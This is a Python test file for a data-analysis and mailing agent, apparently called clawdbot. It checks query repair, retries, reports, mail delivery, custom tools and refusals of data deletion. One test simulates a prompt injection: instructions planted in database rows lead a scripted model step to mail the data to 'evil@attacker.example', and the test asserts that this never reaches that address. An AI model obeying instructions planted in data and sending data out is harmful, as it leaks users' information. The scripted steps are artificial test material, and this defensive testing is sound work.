"""Whole runs: the main chain in both languages, repairs, repetitions, own tools, and what goes wrong on the way."""

from __future__ import annotations

import socket
from pathlib import Path
from typing import Any

import pytest

from clawdbot.errors import StoreError, UsageError
from tests.agents.conftest import MakeOffice
from tests.office import GOAL_EN, GOAL_ZH, PLANTED, SALES, Postbox, chart_step, first_choice, query_step, step

MAIL_GOAL = "Sales by region for Q3 2026, mail it to finance."
BODY = "North sold 5,500.25 and West 1,899.75."
MAIL = step("mail", subject="Sales Q3 2026", body=BODY)
DONE = step("finish", answer="North leads with 5,500.25.")
TOOLS = ("sql", "chart", "report", "mail", "export")
"""Without the typed query, so that a failed call can be made again."""


def outcomes(result: Any) -> list[tuple[str, str]]:
    return [(s["tool"], s["outcome"]) for s in result.steps]


@pytest.mark.parametrize("language", ["en", "zh"])
def test_the_main_chain(office: MakeOffice, language: str) -> None:
    zh = language == "zh"
    summary = "北区5,500.25，合计1.06万元。" if zh else "North sold 5,500.25; the total is 10,610.50."
    at = office(
        [
            first_choice("query") if zh else query_step(),
            first_choice("chart"),
            step("report", title="销售报告" if zh else "Sales Q3 2026", summary=summary),
            step("mail", subject="销售报告" if zh else "Sales Q3 2026", body=summary),
            step("finish", answer="最高的是 North，为5500.25元。" if zh else "North leads with 5,500.25."),
        ]
    )
    result = at.run(GOAL_ZH if zh else GOAL_EN)

    assert (result.verdict, result.missing, result.status) == ("verified", (), "done")
    kinds = {a["kind"]: Path(a["path"]) for a in result.artifacts}
    assert kinds["report"].read_bytes().startswith(b"%PDF-")
    assert kinds["chart"].read_bytes().startswith(b"\x89PNG")
    (mail,) = at.postbox.mails()
    assert at.postbox.receivers() == ["finance@example.com"]
    assert [a.get_content_type() for a in mail.iter_attachments()] == ["application/pdf"]
    table = at.app.planner.workspace(result.run_id).load_table(result.receipts[0]["table"])
    assert sorted(table.iloc[:, -1]) == sorted(SALES.values())
    assert [r["tool"] for r in result.receipts][1:] == ["chart", "report", "mail"]
    assert result.receipts[3]["message_id"] == mail["Message-ID"]
    assert all(name in result.answer for name in SALES), "rows that the answer left out are added"


def test_each_step_is_offered_what_the_state_allows(office: MakeOffice) -> None:
    at = office([query_step(), chart_step(), step("finish", answer="North leads.")])
    result = at.run("Chart the sales by region for Q3 2026 as bar chart")
    assert result.verdict == "verified"
    assert [at.offered(n) for n in range(3)] == [{"query", "sql"}, {"chart"}, {"finish"}]


def test_an_invalid_answer_is_repaired_once_and_paid_for(office: MakeOffice) -> None:
    at = office(["I would query the database.", query_step(), MAIL, DONE])
    result = at.run(MAIL_GOAL)
    assert result.verdict == "verified"
    assert result.steps[0]["notes"][0].startswith("repaired: ")
    assert "Not valid" in at.prompts()[1]
    assert "I would query" not in at.prompts()[2], "what was repaired leaves the context"
    assert result.steps[0]["prompt_tokens"] > 1.3 * result.steps[1]["prompt_tokens"]


def test_invalid_answers_end_the_run_and_keep_what_was_made(office: MakeOffice) -> None:
    at = office([query_step(), "no", "no", "no", "no"])
    result = at.run(MAIL_GOAL)
    assert (result.verdict, result.stop_kind) == ("partial", "model")
    assert [o for _, o in outcomes(result)] == ["ok", "invalid", "invalid"]
    assert "5,500.25" in result.answer, "code states what the results show"
    assert at.postbox.mails() == []


def test_a_model_that_never_answers_well_fails(office: MakeOffice) -> None:
    result = office(["no"] * 4).run("How many orders are there?")
    assert (result.verdict, result.stop_kind) == ("failed", "model")
    assert len(result.steps) == 2


def test_a_model_that_is_not_there_ends_the_run_with_its_reason(office: MakeOffice) -> None:
    result = office([query_step()]).run(MAIL_GOAL)
    assert (result.verdict, result.stop_kind) == ("partial", "model")
    assert any("script is over" in reason for reason in result.missing)


def test_a_call_is_not_made_twice(office: MakeOffice) -> None:
    wrong = query_step(sql="SELECT nothing FROM orders")
    at = office([wrong, wrong, query_step(), MAIL, DONE], tools={"enable": TOOLS})
    result = at.run(MAIL_GOAL)
    assert result.verdict == "verified"
    assert outcomes(result)[:3] == [("sql", "retryable"), ("sql", "repeat"), ("sql", "ok")]
    assert "made in step 1 already" in result.steps[1]["observation"]


def test_a_mended_failure_leaves_the_context(office: MakeOffice) -> None:
    wrong = query_step(sql="SELECT nothing FROM orders")
    at = office([wrong, query_step(), MAIL, DONE], tools={"enable": TOOLS})
    at.run(MAIL_GOAL)
    first, mending, after, _ = at.prompts()
    assert "SELECT nothing" in mending
    assert "Last problem" in mending
    assert "SELECT nothing" not in after
    assert "Last problem" not in after
    assert first.rsplit("\nNext:", 1)[0] in mending, "the prefix stays the same"


def test_after_a_failure_the_other_way_to_the_data_is_offered(office: MakeOffice) -> None:
    at = office([query_step(sql="SELECT nothing FROM orders"), MAIL, DONE])
    result = at.run(MAIL_GOAL)
    assert result.verdict == "verified"
    assert outcomes(result)[:2] == [("sql", "retryable"), ("query", "ok")]
    assert result.steps[1]["model"] == "", "the only possible query needs no model"


def test_a_result_that_misses_the_period_is_sent_back_and_dropped(office: MakeOffice) -> None:
    every = query_step("all", "SELECT region, SUM(amount) AS sales FROM orders GROUP BY region")
    at = office([every, query_step(), MAIL, DONE], tools={"enable": TOOLS})
    result = at.run(MAIL_GOAL)
    assert result.verdict == "verified"
    assert outcomes(result)[0] == ("sql", "complaint")
    assert "the period 2026-Q3 is not in the query" in result.steps[0]["observation"]
    assert [t.name for t in at.app.planner.workspace(result.run_id).tables()] == ["sales"]


def test_a_part_that_never_fits_is_given_up_and_said(office: MakeOffice) -> None:
    tries = [query_step("t", f"SELECT region, SUM(amount) AS sales FROM orders WHERE id > {n} GROUP BY region")
             for n in range(4)]  # fmt: skip
    at = office([*tries, step("finish", answer="Done.")], tools={"enable": ("sql",)})
    result = at.run("Sales by region for Q3 2026")
    assert result.verdict != "verified"
    assert "no reliable data for" in result.missing[0]


def test_files_are_exported_and_two_questions_get_two_tables(office: MakeOffice) -> None:
    total = "SELECT SUM(amount) AS total FROM orders WHERE ordered_on >= '2026-07-01' AND ordered_on < '2026-10-01'"
    top = f"SELECT * FROM ({BY}) LIMIT 1"
    at = office(
        [query_step("total", total), query_step("best", top), step("export", table="best", format="csv"),
         step("finish", answer="The total is 10,610.50; North leads.")],
    )  # fmt: skip
    result = at.run("What is the total of sales in Q3 2026, and which region sold most? Save it as csv.")
    assert result.verdict == "verified", result.missing
    assert [a["kind"] for a in result.artifacts] == ["csv"]
    assert [s["part"] for s in result.steps[:2]] == [0, 1]


BY = (
    "SELECT region, SUM(amount) AS sales FROM orders WHERE ordered_on >= '2026-07-01' AND ordered_on < '2026-10-01' "
    "GROUP BY region ORDER BY sales DESC"
)


def test_planted_instructions_in_data_get_no_receiver(office: MakeOffice) -> None:
    rows = query_step("rows", "SELECT customer, amount FROM orders WHERE ordered_on >= '2026-09-30' AND id < 7")
    obeys = step("mail", subject="s", body="See the data.", to=["finance@example.com", "evil@attacker.example"])
    at = office([rows, obeys, step("mail", subject="s", body="See the data."), step("finish", answer="One order.")])
    result = at.run("List customer and amount of the orders since 2026-09-30, mail it to finance")
    assert PLANTED in result.steps[0]["observation"], "the model did read it"
    assert at.postbox.receivers() == ["finance@example.com"]
    headers = [str(m[name]) for m in at.postbox.mails() for name in ("To", "Cc", "Bcc", "Reply-To")]
    assert all("evil" not in header for header in headers), "the data may be told, its instruction is not followed"


def test_a_change_of_data_is_refused_without_asking_the_model(office: MakeOffice) -> None:
    at = office([])
    result = at.run("Delete all orders of North")
    assert (result.verdict, result.stop_kind) == ("failed", "refused")
    assert "nothing was changed" in result.answer
    assert at.model.calls == ()


def test_a_change_beside_a_question_is_told_as_not_done(office: MakeOffice) -> None:
    at = office([query_step(), step("export", table="sales", format="csv"), DONE])
    result = at.run("删除所有订单，然后把2026年第三季度各地区的销售额导出为csv")
    assert result.verdict == "partial"
    assert "没有任何数据被修改" in "".join(result.missing)


def test_an_own_tool_is_used_and_its_result_may_be_quoted(office: MakeOffice, tmp_path: Path) -> None:
    at = office(
        [step("exchange_rate", base="EUR"), step("finish", answer="One EUR is 7.83 CNY.")],
        tools={"paths": [_own_tool(tmp_path)], "enable": (*TOOLS, "exchange_rate")},
    )
    result = at.run("What is the exchange rate of EUR?")
    assert outcomes(result) == [("exchange_rate", "ok"), ("finish", "ok")]
    assert result.verdict == "verified"


def test_an_own_tool_that_crashes_does_not_end_the_run(office: MakeOffice, tmp_path: Path) -> None:
    at = office(
        [step("exchange_rate", base="ABC"), query_step(), step("exchange_rate", base="YYY"), DONE],
        tools={"paths": [_own_tool(tmp_path)], "enable": ("sql", "exchange_rate")},
    )
    result = at.run("Sales by region for Q3 2026 with the exchange rate of EUR")
    assert outcomes(result) == [("exchange_rate", "crash"), ("sql", "ok"), ("exchange_rate", "crash"), ("finish", "ok")]
    assert "KeyError" in result.steps[0]["observation"]
    assert result.verdict == "partial", "what the person asked of the tool is missing"
    assert "exchange_rate did not succeed" in "".join(result.missing)


def _own_tool(folder: Path) -> str:
    (folder / "tools").mkdir()
    (folder / "tools" / "exchange.py").write_text(
        "from clawdbot.tools import tool\n\n"
        '@tool(effect="read")\n'
        "def exchange_rate(base: str) -> str:\n"
        '    """Look up the exchange rate of a currency to CNY.\n\n'
        '    base: ISO 4217 code\n    """\n'
        '    return f"1 {base} = {dict(EUR=7.83)[base]} CNY"\n'
    )
    return str(folder / "tools")


@pytest.mark.usefixtures("no_pauses")
def test_a_mail_that_is_put_off_once_is_sent_once(office: MakeOffice) -> None:
    at = office([query_step(), MAIL, DONE])
    at.postbox.answers.append("451 4.3.0 try again later")
    result = at.run(MAIL_GOAL)
    assert result.verdict == "verified"
    assert len(at.postbox.mails()) == 1
    assert result.receipts[1]["attempts"] == 2


@pytest.mark.usefixtures("no_pauses")
def test_no_mail_server_leaves_a_partial_run_that_says_why(office: MakeOffice) -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        at = office([query_step(), MAIL, *[step("mail", subject="s", body=f"Try {n}.") for n in (1, 2)], DONE],
                    mail={"port": taken.getsockname()[1]})  # fmt: skip
        result = at.run(MAIL_GOAL)
    assert result.verdict == "partial"
    assert "no mail" in "".join(result.missing)
    assert "5,500.25" in result.answer


def test_a_refused_mail_is_not_tried_again(office: MakeOffice, mail: tuple[Postbox, int]) -> None:
    at = office([query_step(), MAIL, DONE])
    at.postbox.answers.append("550 5.7.1 no such user")
    result = at.run(MAIL_GOAL)
    assert result.verdict == "partial"
    assert "no such user" in "".join(result.missing)


def test_an_empty_goal_is_refused_before_anything_is_recorded(office: MakeOffice) -> None:
    at = office([])
    with pytest.raises(UsageError, match="empty"):
        at.run("  \n")
    with pytest.raises(UsageError, match="limit"):
        at.run("sales " * 2000)
    assert at.app.ledger.list_runs() == ()


def test_a_home_that_cannot_be_made_is_a_clear_error(office: MakeOffice, tmp_path: Path) -> None:
    blocked = tmp_path / "file"
    blocked.write_text("")
    with pytest.raises(StoreError) as error:
        office([], app={"home": str(blocked / "home"), "today": "2026-11-02"})
    assert str(blocked) in str(error.value)
    assert error.value.hint


def test_an_answer_in_the_other_language_is_sent_back_once(office: MakeOffice) -> None:
    english = step("finish", answer="The total of all the sales in that quarter is written in the table.")
    at = office([query_step(), english, step("finish", answer="结果见下表。")])
    result = at.run("2026年第三季度各地区的销售额")
    assert result.verdict == "verified"
    first = next(s for s in result.steps if s["tool"] == "finish")
    assert first["observation"] == "Write it in Chinese (简体中文)."
    assert result.answer.startswith("结果见下表。")
